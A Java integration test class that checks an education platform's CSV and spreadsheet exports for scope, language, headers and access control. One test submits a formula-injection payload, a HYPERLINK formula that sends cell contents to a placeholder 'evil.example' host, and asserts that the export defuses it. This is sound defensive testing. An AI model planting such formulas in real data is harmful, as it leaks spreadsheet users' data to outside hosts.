package eu.cginternational.it.system;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/** The list pages export what their table shows, as CSV and as a spreadsheet, within the person's scope. */
class ExportIT {

    @Test
    void mobilitiesExportAsCsvWithTheirLabelsAndOnlyOfTheOwnSchool() {
        HttpResponse<String> csv = download("school.pljevlja", "/api/mobilities/export?format=csv");

        assertThat(csv.statusCode()).isEqualTo(200);
        assertThat(csv.headers().firstValue("Content-Type")).hasValueSatisfying(type -> assertThat(type).startsWith("text/csv"));
        assertThat(csv.headers().firstValue("Content-Disposition")).hasValueSatisfying(
                disposition -> assertThat(disposition).contains("mobilities.csv"));
        assertThat(csv.body()).contains("SVS-Pljevlja").doesNotContain("Kolegji Profesional i Tiranës");
    }

    @Test
    void mobilitiesExportAsASpreadsheetFilteredLikeTheList() {
        HttpResponse<String> xlsx = download("school.kpt", "/api/mobilities/export?format=xlsx&status=SUBMITTED&sort=-startDate");

        assertThat(xlsx.statusCode()).isEqualTo(200);
        assertThat(xlsx.headers().firstValue("Content-Type"))
                .hasValue("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        assertThat(xlsx.body()).startsWith("PK");
    }

    @Test
    void anExportInAnUnknownFormatIsABadRequest() {
        assertThat(download("school.kpt", "/api/mobilities/export?format=pdf").statusCode()).isEqualTo(400);
    }

    @Test
    void usersExportAsASpreadsheet() {
        HttpResponse<String> xlsx = export("coordinator", "/coordinator/users.xhtml", "users", "export-xlsx");

        assertThat(xlsx.statusCode()).isEqualTo(200);
        assertThat(xlsx.headers().firstValue("Content-Type"))
                .hasValue("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        assertThat(xlsx.body()).startsWith("PK");
    }

    @Test
    void usersExportAsCsvWithTheirRolesAndStatusAsThePageNamesThem() {
        HttpResponse<String> csv = export("coordinator", "/coordinator/users.xhtml", "users", "export");

        assertThat(csv.statusCode()).isEqualTo(200);
        assertThat(csv.body()).contains("\"student.kpt\"").contains(Platform.text("", "Role.STUDENT"))
                .contains(Platform.text("", "general.active")).doesNotContain("IndirectSet").doesNotContain("\"true\"");
    }

    @Test
    void institutionsExportAsCsv() {
        HttpResponse<String> csv = export("coordinator", "/coordinator/institutions.xhtml", "institutions", "export");

        assertThat(csv.statusCode()).isEqualTo(200);
        assertThat(csv.body()).contains("Kolegji Profesional i Tiranës").contains("SVS-Pljevlja");
    }

    @Test
    void aSchoolsRequestsForAnAccountExportWithTheirRoleInTheLanguageOfTheReader() {
        HttpResponse<String> csv = export("school.kpt", "/school/account-requests.xhtml", "requests", "export");

        assertThat(csv.statusCode()).isEqualTo(200);
        // school.kpt reads Albanian; Ardit Basha, of the demo data, waits at KPT as a student
        assertThat(csv.body()).contains("Ardit Basha").contains(Platform.text("_sq", "Role.STUDENT"))
                .doesNotContain("Marko Bulatović");
    }

    @Test
    void aSchoolsNominationsExportAsASpreadsheet() {
        HttpResponse<String> xlsx = export("school.kpt", "/trainings/nominations.xhtml", "nominations", "export-xlsx");

        assertThat(xlsx.statusCode()).isEqualTo(200);
        assertThat(xlsx.headers().firstValue("Content-Type"))
                .hasValue("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        assertThat(xlsx.body()).startsWith("PK");
    }

    @Test
    void theOutboxExportsAsCsvWithRecipientsAndSubjects() {
        String welcomed = Platform.newAccount("TEACHER", "Kolegji Profesional", "EN") + "@school.example";

        HttpResponse<String> csv = export("coordinator", "/coordinator/outbox.xhtml", "outbox", "export");

        assertThat(csv.statusCode()).isEqualTo(200);
        assertThat(csv.body()).contains(welcomed).contains(Platform.serviceText("", "mail.welcome.subject"))
                .containsPattern("\"\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2} UTC\"").doesNotContainPattern("\\d{2}:\\d{2}:\\d{2}\\.\\d+Z");
    }

    @Test
    void anExportEndsWhenTheListShrankAfterThePageWasShown() {
        String username = Platform.unique("shrinking");
        String email = username + "@student.example";
        assertThat(AccountRequestApiIT.asked(
                AccountRequestApiIT.request(username, email, "Shrinking " + username, "Kolegji Profesional i Tiran"), username)
                .statusCode()).isEqualTo(202);
        HttpClient browser = Pages.browserOf("school.kpt");
        String page = "/school/account-requests.xhtml";
        String html = Pages.open(browser, page).body();
        long id = Platform.json(Platform.asDemo("GET", "/api/account-requests?email=" + email, "school.kpt", null))
                .getJsonArray("items").getJsonObject(0).getJsonNumber("id").longValue();
        assertThat(Platform.asDemo("POST", "/api/account-requests/" + id + "/decline", "school.kpt",
                "{\"reason\": \"Not a pupil of ours.\"}").statusCode()).isEqualTo(204);

        HttpResponse<String> csv = Pages.press(browser, page, html, "requests", "export");

        assertThat(csv.statusCode()).isEqualTo(200);
        assertThat(csv.body()).contains("Ardit Basha").doesNotContain(username);
    }

    @Test
    void aSchoolsApplicationsExportWithAMotivationThatLooksLikeAFormulaAsText() {
        String student = Platform.newAccount("STUDENT", "Pljevlja", "EN");
        String password = Mailbox.setPasswordFromWelcomeMail(student + "@school.example");
        long developers = Platform.json(Platform.call("GET", "/api/opportunities?isco=2512", student, password, null))
                .getJsonArray("items").getJsonObject(0).getJsonNumber("id").longValue();
        String motivation = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
        HttpResponse<String> applied = Platform.call("POST", "/api/opportunities/" + developers + "/applications", student,
                password, "{\"motivation\": " + Platform.quoted(motivation) + "}");
        assertThat(applied.statusCode()).as(applied.body()).isEqualTo(201);

        HttpResponse<String> csv = export("school.pljevlja", "/opportunities/applications.xhtml", "applications", "export");

        assertThat(csv.statusCode()).isEqualTo(200);
        // school.pljevlja reads Montenegrin; a spreadsheet program shows a cell that starts with an apostrophe as text
        assertThat(csv.body()).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\"")
                .doesNotContain("\"=HYPERLINK").contains(Platform.text("_sr_Latn_ME", "ApplicationStatus.PENDING"));
        assertThat(export("school.kpt", "/opportunities/applications.xhtml", "applications", "export").body())
                .doesNotContain("HYPERLINK");
    }

    @Test
    void aCounsellorsCaseloadExportsTheStudentsOfTheSchoolOnly() {
        HttpResponse<String> csv = export("teacher.kpt", "/guidance/caseload.xhtml", "students", "export");

        assertThat(csv.statusCode()).isEqualTo(200);
        assertThat(csv.body()).contains("\"Klea Shehu\",\"student.kpt\"").doesNotContain("student.pljevlja");
    }

    @Test
    void theTrainingCatalogueAndATeachersOwnTrainingsExport() {
        HttpResponse<String> catalogue = export("teacher.pljevlja", "/trainings/index.xhtml", "trainings", "export");
        HttpResponse<String> spreadsheet = export("teacher.pljevlja", "/trainings/index.xhtml", "trainings", "export-xlsx");
        HttpResponse<String> mine = export("teacher.kpt", "/trainings/mine.xhtml", "mine", "export");

        assertThat(catalogue.body()).contains("\"RIASEC interest assessment in practice\"");
        // Read in Montenegrin, the page writes days as 12.01.2027.; the export keeps the ISO form.
        assertThat(catalogue.body()).containsPattern("\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}\u2013")
                .doesNotContainPattern("\\d{2}\\.\\d{2}\\.\\d{4}\\.");
        assertThat(spreadsheet.headers().firstValue("Content-Type"))
                .hasValue("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        assertThat(mine.body()).contains("\"Labour-market information in guidance\"")
                .doesNotContain("RIASEC interest assessment in practice");
    }

    @Test
    void theOpportunitiesTheLibraryAndTheOccupationsExportInTheReadersLanguage() {
        HttpResponse<String> opportunities = export("student.kpt", "/opportunities/index.xhtml", "board", "export");
        HttpResponse<String> library = export("teacher.kpt", "/guidance/resources.xhtml", "resources", "export");
        HttpResponse<String> occupations = export("student.kpt", "/guidance/occupations.xhtml", "occupations", "export");

        assertThat(opportunities.statusCode()).isEqualTo(200);
        assertThat(opportunities.body()).contains("2512");
        assertThat(library.body()).contains("\"Europass CV editor\"").contains(Platform.text("_sq", "ResourceKind.LINK"))
                .contains(Platform.text("_sq", "Audience.COUNSELLOR"));
        assertThat(occupations.body()).contains("\"5120\"").contains(Platform.text("_sq", "occupation.isco"));
    }

    @Test
    void aMinistryExportsTheIndicatorsOfItsCountryWithTheirAreasNamed() {
        HttpResponse<String> csv = download("ministry.al", "/api/indicators/export?format=csv");

        assertThat(csv.statusCode()).isEqualTo(200);
        assertThat(csv.headers().firstValue("Content-Disposition")).hasValueSatisfying(
                disposition -> assertThat(disposition).contains("indicators.csv"));
        // ministry.al reads Albanian: every row names its area in Albanian and counts an Albanian school
        String areas = Platform.texts("messages", "_sq").entrySet().stream()
                .filter(text -> text.getKey().toString().startsWith("IndicatorArea."))
                .map(text -> Pattern.quote(text.getValue().toString())).collect(Collectors.joining("|"));
        List<String> rows = csv.body().lines().skip(1).toList();
        assertThat(rows).isNotEmpty().allSatisfy(row -> assertThat(row).containsPattern("^(" + areas + "),AL,"));
        assertThat(download("coordinator", "/api/indicators/export?format=xlsx&area=MOBILITIES_BY_TYPE").body()).startsWith("PK");
        assertThat(download("teacher.kpt", "/api/indicators/export").statusCode()).isEqualTo(403);
    }

    @Test
    void anyoneExportsTheResearchAndPolicyRegisterFilteredLikeThePageInTheChosenLanguage() {
        String page = Platform.call("GET", "/policy/index.xhtml?kind=RECOMMENDATION", null, null, null).body();
        HttpResponse<String> csv = Platform.send(HttpRequest.newBuilder(
                URI.create(Platform.url("/api/publications/export?format=csv&lang=SQ&kind=RECOMMENDATION"))).build());

        assertThat(page).contains("/api/publications/export?format=csv&amp;lang=EN&amp;kind=RECOMMENDATION");
        assertThat(csv.statusCode()).isEqualTo(200);
        assertThat(csv.body()).contains(Platform.text("_sq", "policy.published_on"))
                .contains("Make career guidance a regular part of the VET school year")
                .contains(Platform.text("_sq", "RecommendationStatus.ADOPTED"))
                .doesNotContain("country policy report");
    }

    /** Opens the page as the user and presses its export button, like a browser would. */
    private static HttpResponse<String> export(String username, String page, String form, String button) {
        HttpClient browser = Pages.browserOf(username);
        return Pages.press(browser, page, Pages.open(browser, page).body(), form, button);
    }

    /** Fetches an export link as the user, with HTTP Basic, as a script would. */
    private static HttpResponse<String> download(String username, String path) {
        return Platform.send(HttpRequest.newBuilder(URI.create(Platform.url(path)))
                .header("Authorization", basic(username)).build());
    }

    private static String basic(String username) {
        return Platform.basicAuthorization(username, Platform.DEMO_PASSWORD);
    }
}
